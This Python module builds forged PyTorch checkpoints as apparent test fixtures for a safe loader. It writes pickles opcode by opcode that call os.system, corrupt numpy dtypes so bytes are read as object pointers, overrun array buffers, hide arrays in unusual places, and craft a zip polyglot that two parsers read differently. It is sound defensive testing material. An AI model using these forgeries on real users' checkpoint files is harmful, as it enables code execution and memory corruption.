"""Forged checkpoints: hand-assembled pickles in PyTorch's zip format.

Each forgery is what an attacker would hand a colleague as ``iter_N.pth``:
a real torch zip archive whose ``data.pkl`` is a pickle written opcode by
opcode, so it can do what no honest ``torch.save`` does (BUILD an object
twice, clear a dtype's flags, name ``os.system``).
"""
from __future__ import annotations

import struct
import zipfile

import torch


class Pickle:
    """A protocol-2 pickle, one opcode at a time."""

    def __init__(self):
        self.out = bytearray(b'\x80\x02')

    def raw(self, data: bytes) -> 'Pickle':
        self.out += data
        return self

    def glob(self, module: str, name: str) -> 'Pickle':
        return self.raw(b'c' + module.encode() + b'\n' + name.encode() + b'\n')

    def str(self, text: str) -> 'Pickle':
        data = text.encode('utf-8', 'surrogatepass')
        return self.raw(b'X' + struct.pack('<I', len(data)) + data)

    def int(self, value: int) -> 'Pickle':
        return self.raw(b'J' + struct.pack('<i', value))

    def bytes(self, data: bytes) -> 'Pickle':
        # what protocol 2 writes for bytes: _codecs.encode(latin-1 text, 'latin1')
        return self.glob('_codecs', 'encode').str(data.decode('latin1')).str('latin1') \
            .raw(b'\x86R')

    def none(self) -> 'Pickle':
        return self.raw(b'N')

    def false(self) -> 'Pickle':
        return self.raw(b'\x89')

    def true(self) -> 'Pickle':
        return self.raw(b'\x88')

    def mark(self) -> 'Pickle':
        return self.raw(b'(')

    def tuple(self) -> 'Pickle':  # items since the last mark
        return self.raw(b't')

    def reduce(self) -> 'Pickle':
        return self.raw(b'R')

    def build(self) -> 'Pickle':
        return self.raw(b'b')

    def put(self, index: int) -> 'Pickle':
        return self.raw(b'q' + bytes([index]))

    def get(self, index: int) -> 'Pickle':
        return self.raw(b'h' + bytes([index]))

    def empty_dict(self) -> 'Pickle':
        return self.raw(b'}')

    def setitem(self) -> 'Pickle':
        return self.raw(b's')

    def stop(self) -> bytes:
        return bytes(self.out + b'.')

    # ----------------------------------------------------- numpy's pieces
    def dtype(self, code: str, order: str = '<', flags: int = 0, elsize: int = -1) -> 'Pickle':
        """``numpy.dtype(code, False, True)`` and its BUILD state."""
        self.glob('numpy', 'dtype').mark().str(code).false().true().tuple().reduce()
        return self.mark().int(3).str(order).none().none().none().int(elsize).int(-1) \
            .int(flags).tuple().build()

    def empty_array(self) -> 'Pickle':
        """``_reconstruct(ndarray, (0,), b'b')``, as numpy pickles start an array."""
        return self.glob('numpy._core.multiarray', '_reconstruct').mark() \
            .glob('numpy', 'ndarray').mark().int(0).tuple().bytes(b'b').tuple().reduce()

    def array_state(self, shape, dtype_code: str, data: bytes, order: str = '<') -> 'Pickle':
        self.mark().int(1).mark()
        for n in shape:
            self.int(n)
        self.tuple().dtype(dtype_code, order).false().bytes(data).tuple()
        return self.build()


def write_checkpoint(path, pickle_bytes: bytes) -> str:
    """A PyTorch zip checkpoint whose ``data.pkl`` is ``pickle_bytes``."""
    torch.save({}, path)
    with zipfile.ZipFile(path) as src:
        records = [(info, src.read(info.filename)) for info in src.infolist()]
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as dst:
        for info, data in records:
            dst.writestr(info, pickle_bytes if info.filename.endswith('/data.pkl') else data)
    return str(path)


def checkpoint_with(path, value: 'Pickle') -> str:
    """``{'meta': {'iter': 1}, 'x': <value>}`` around a forged value.

    ``value`` is a fresh :class:`Pickle` whose opcodes push one object; its
    protocol header is dropped.
    """
    head = Pickle().empty_dict().str('meta').empty_dict().str('iter').int(1).setitem() \
        .setitem().str('x')
    body = bytes(value.out[2:])
    return write_checkpoint(path, bytes(head.out) + body + b's.')


# ------------------------------------------------------------- the attacks
def object_dtype_scalar(path) -> str:
    """An object dtype with its reference flags cleared, and 8 bytes for ``scalar``:
    numpy reads the bytes as a PyObject pointer (0x4141414141414141)."""
    value = Pickle().glob('numpy._core.multiarray', 'scalar').mark().dtype('O8', '|', flags=0) \
        .bytes(b'A' * 8).tuple().reduce()
    return checkpoint_with(path, value)


def object_array(path) -> str:
    """An array of dtype object built from a list (a forged "object array")."""
    value = Pickle().empty_array().mark().int(1).mark().int(1).tuple() \
        .dtype('O8', '|', flags=63).false().raw(b']').int(7).raw(b'a').tuple().build()
    return checkpoint_with(path, value)


def array_rebuild(path) -> str:
    """A valid array, then a second BUILD of the same object claiming 10^6 elements."""
    value = Pickle().mark().empty_array().put(200).array_state((1,), 'f8', b'\x00' * 8) \
        .get(200).array_state((1000000,), 'f8', b'\x00' * 8).tuple()
    return checkpoint_with(path, value)


def short_array_data(path) -> str:
    """Shape (1000,) float64 with 8 bytes of data: reading it would run off the end."""
    value = Pickle().empty_array().array_state((1000,), 'f8', b'\x00' * 8)
    return checkpoint_with(path, value)


def forged_numeric_dtype(path) -> str:
    """float64 whose state claims reference-holding flags and another item size."""
    value = Pickle().dtype('f8', '<', flags=63, elsize=1 << 20)
    return checkpoint_with(path, value)


def runs_a_command(path, sentinel) -> str:
    """``os.system('touch SENTINEL')`` through REDUCE."""
    value = Pickle().glob('posix', 'system').mark().str(f'touch {sentinel}').tuple().reduce()
    return checkpoint_with(path, value)


def walks_attributes(path) -> str:
    """``getattr(HistoryBuffer, '__init__')``: beyond the statistics names."""
    value = Pickle().glob('builtins', 'getattr').mark() \
        .glob('mmengine.logging.history_buffer', 'HistoryBuffer').str('__init__').tuple() \
        .reduce()
    return checkpoint_with(path, value)


def stray_numpy_name(path) -> str:
    """``numpy.ndarray`` itself as a value: a name, not data."""
    return checkpoint_with(path, Pickle().glob('numpy', 'ndarray'))


def _array(p: Pickle) -> Pickle:
    """Pushes a valid float64 array of one element (an older-format numpy array)."""
    return p.empty_array().array_state((1,), 'f8', b'\x00' * 8)


def array_in_a_key(path) -> str:
    """A numpy array inside a tuple used as a dict key: never resolved by a walk of values."""
    value = Pickle().empty_dict().mark()
    _array(value).glob('numpy', 'ndarray').tuple().int(1).setitem()
    return checkpoint_with(path, value)


def array_in_ordereddict_state(path) -> str:
    """BUILD on an OrderedDict sets its ``__dict__``: a numpy array hidden there."""
    value = Pickle().glob('collections', 'OrderedDict').raw(b')R').empty_dict() \
        .str('_metadata')
    _array(value).setitem().build()
    return checkpoint_with(path, value)


def history_buffer_state_shared(path) -> str:
    """A HistoryBuffer whose state dict is also reachable as data (memo trick)."""
    value = Pickle().mark().empty_dict().put(50).str('_log_history')
    _array(value).setitem().str('_count_history')
    _array(value).setitem()
    value.glob('mmengine.logging.history_buffer', 'HistoryBuffer').raw(b')\x81').get(50) \
        .build().tuple()
    return checkpoint_with(path, value)


def huge_empty_array(path) -> str:
    """Shape (0, 2**70): zero bytes of data, but numpy refuses the shape itself."""
    value = Pickle().empty_array().mark().int(1).mark().int(0) \
        .raw(b'\x8a\x09' + (2 ** 70).to_bytes(9, 'little')).tuple().dtype('f8') \
        .false().bytes(b'').tuple().build()
    return checkpoint_with(path, value)


ATTACKS = {
    'object_dtype_scalar': object_dtype_scalar,
    'object_array': object_array,
    'array_rebuild': array_rebuild,
    'short_array_data': short_array_data,
    'forged_numeric_dtype': forged_numeric_dtype,
    'walks_attributes': walks_attributes,
    'stray_numpy_name': stray_numpy_name,
    'array_in_a_key': array_in_a_key,
    'array_in_ordereddict_state': array_in_ordereddict_state,
    'history_buffer_state_shared': history_buffer_state_shared,
    'huge_empty_array': huge_empty_array,
}


# ------------------------------------------------------------- zip polyglot
def _zip_parts(data: bytes):
    """(local part, central directory, entries) of a zip without a comment."""
    eocd = data.rfind(b'PK\x05\x06')
    entries, cd_size, cd_offset = struct.unpack('<HII', data[eocd + 10:eocd + 20])
    return data[:cd_offset], data[cd_offset:cd_offset + cd_size], entries


def torchscript_numpy_polyglot(path) -> str:
    """One file, two archives: Python's ``zipfile`` reads a numpy-format checkpoint
    (no ``constants.pkl``), torch's reader reads a TorchScript archive.

    Layout: TorchScript archive B, then checkpoint A, then an end record whose
    central-directory offset points at B's directory. torch (miniz) takes the
    offset as it is; Python re-bases it as if data were prepended and lands on
    A's directory, whose entries are re-based to match.
    """
    import io

    import numpy as np
    scripted = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 1)), scripted)
    b_local, b_cd, b_entries = _zip_parts(scripted.getvalue())
    honest = io.BytesIO()
    torch.save({'meta': {'iter': 1}, 'x': np.float64(1.5)}, honest)  # numpy inside
    with zipfile.ZipFile(honest) as src:
        records = [(info.filename, src.read(info.filename)) for info in src.infolist()]
    prefix = records[0][0].split('/')[0]
    records += [(f'{prefix}/pad{k}', b'') for k in range(b_entries - len(records))]
    assert len(records) == b_entries
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w', zipfile.ZIP_STORED) as dst:
        for name, data in records:
            info = zipfile.ZipInfo(name)
            info.comment = b'c' * (len(b_cd) // b_entries + 64)  # A's directory >= B's
            dst.writestr(info, data)
    a_local, a_cd, _ = _zip_parts(buffer.getvalue())
    assert len(b_local) >= len(a_local) and len(a_cd) >= len(b_cd)
    a_start = len(b_local) + len(b_cd)
    rebase = a_start + len(a_local) - len(b_local)
    directory, at = bytearray(a_cd), 0
    while at < len(directory):
        name_len, extra_len, comment_len = struct.unpack('<HHH', directory[at + 28:at + 34])
        offset, = struct.unpack('<I', directory[at + 42:at + 46])
        struct.pack_into('<I', directory, at + 42, a_start + offset - rebase)
        at += 46 + name_len + extra_len + comment_len
    end = struct.pack('<4sHHHHIIH', b'PK\x05\x06', 0, 0, b_entries, b_entries,
                      len(directory), len(b_local), 0)
    with open(path, 'wb') as f:
        f.write(b_local + b_cd + a_local + bytes(directory) + end)
    return str(path)
